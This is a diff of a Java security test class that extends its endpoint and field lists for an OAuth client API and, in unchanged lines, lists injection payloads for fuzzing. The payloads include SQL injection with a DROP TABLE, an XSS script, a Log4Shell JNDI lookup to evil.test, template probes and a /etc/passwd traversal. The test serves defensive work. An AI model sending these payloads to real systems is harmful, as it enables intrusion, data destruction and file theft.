@@ -103,10 +103,13 @@ class HostileInputTests {
             "PATCH /api/v1/api-keys/{id}/activate", "POST /api/v1/api-keys/{id}/rotate",
             "GET /api/v1/audit?page={q}&size={q}&target_type={q}&target_id={q}&action={q}",
             "POST /api/v1/signing-keys/rotate", "GET /api/v1/users/me/identities", "DELETE /api/v1/users/me/identities/{id}",
+            "GET /api/v1/clients/", "POST /api/v1/clients/", "GET /api/v1/clients/{id}", "PATCH /api/v1/clients/{id}",
+            "DELETE /api/v1/clients/{id}", "POST /api/v1/clients/{id}/secret/rotate",
             "POST /oauth2/token", "POST /oauth2/introspect", "GET /userinfo");
 
     private static final List<String> FIELDS = List.of("name", "description", "expires_at", "role_ids",
-            "permission_ids", "is_active", "grace_seconds", "resource", "action", "email", "id", "user_id");
+            "permission_ids", "is_active", "grace_seconds", "resource", "action", "email", "id", "user_id", "client_id",
+            "type", "grant_types", "scopes", "redirect_uris", "access_token_ttl_seconds");
 
     private static final List<String> INJECTIONS = List.of("' OR '1'='1", "1; DROP TABLE users; --",
             "<script>alert(1)</script>", "${jndi:ldap://evil.test/a}", "#{7*7}", "{{7*7}}", "../../../../etc/passwd",
